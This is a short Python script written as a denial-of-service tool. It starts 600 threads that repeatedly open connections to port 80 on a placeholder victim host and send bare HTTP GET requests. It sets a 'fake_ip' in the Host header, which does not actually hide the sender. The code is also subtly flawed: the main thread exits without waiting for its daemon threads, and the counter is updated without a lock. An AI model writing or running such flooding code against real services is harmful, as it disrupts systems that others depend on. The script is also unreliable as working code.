import socket
import threading

target = "victim.example"
fake_ip = "182.21.20.32"
port = 80
count = 0


def attack():
    global count
    while True:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((target, port))
        s.sendto(("GET /" + target + " HTTP/1.1\r\n").encode("ascii"), (target, port))
        s.sendto(("Host: " + fake_ip + "\r\n\r\n").encode("ascii"), (target, port))
        s.close()
        count += 1


for i in range(600):
    thread = threading.Thread(target=attack, daemon=True)
    thread.start()
